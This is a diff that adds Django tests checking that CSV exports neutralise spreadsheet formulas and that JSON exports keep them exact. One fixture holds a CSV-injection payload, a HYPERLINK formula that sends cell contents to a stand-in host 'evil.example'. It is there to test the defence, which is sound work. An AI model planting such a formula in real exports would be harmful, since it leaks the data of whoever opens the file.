@@ -1,7 +1,9 @@
 """Exports of every list: exactly the records the page shows, in documented CSV and
 JSON, refused with reasons for bad filters, streamed in chunks."""
 
+import csv
 import datetime
+import io
 
 import pytest
 from django.db import connection
@@ -15,6 +17,7 @@ from ctdialogue.output.exports import (
     blocks,
     country_name,
     list_cell,
+    spreadsheet_cell,
 )
 from events.exports import (
     EVENT_COLUMNS,
@@ -203,3 +206,60 @@ def test_a_semicolon_in_a_listed_name_does_not_split_it(client):
 
     assert rows[0]["initiatives"] == "Alpha\\; Beta; Gamma"
     assert read_list_cell(rows[0]["initiatives"]) == ["Alpha; Beta", "Gamma"]
+
+
+# --- Formulas: neutralised in CSV, exact in JSON ----------------------------------------
+
+FORMULA_TITLES = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+1 and more",
+    "-2 and more",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturned",
+]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+1", "'+1"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a = b", "a = b"),
+        ("2018-01-01", "2018-01-01"),
+        ("", ""),
+        (-2, -2),
+        (2017, 2017),
+        (-1.5, -1.5),
+        (datetime.date(2018, 1, 1), datetime.date(2018, 1, 1)),
+    ],
+)
+def test_spreadsheet_cell_neutralises_text_that_starts_like_a_formula(value, cell):
+    assert spreadsheet_cell(value) == cell
+
+
+def test_csv_export_neutralises_formulas_and_json_keeps_them(client):
+    for number, title in enumerate(FORMULA_TITLES, start=2401):
+        ResolutionFactory(number=number, year=2017, title=title)
+
+    as_csv = client.get("/resolutions/export.csv")
+    raw = b"".join(as_csv.streaming_content).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(raw.removeprefix("\ufeff"))))
+    as_json = read_json(client.get("/resolutions/export.json"))
+
+    assert sorted(row["title"] for row in rows) == sorted(f"'{t}" for t in FORMULA_TITLES)
+    assert sorted(record["title"] for record in as_json["records"]) == sorted(FORMULA_TITLES)
+    # Numbers stay numbers, unquoted; every text cell is quoted, its quotes doubled.
+    assert {row["number"] for row in rows} == {str(n) for n in range(2401, 2407)}
+    assert ',2401,"S/RES/2401 (2017)",2017,' in raw
+    assert '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"' in raw
+
+
+def test_data_page_explains_the_formula_rule(client):
+    text = client.get("/data/").content.decode()
+
+    assert "has a single quote (<code>'</code>) added in front of it" in text
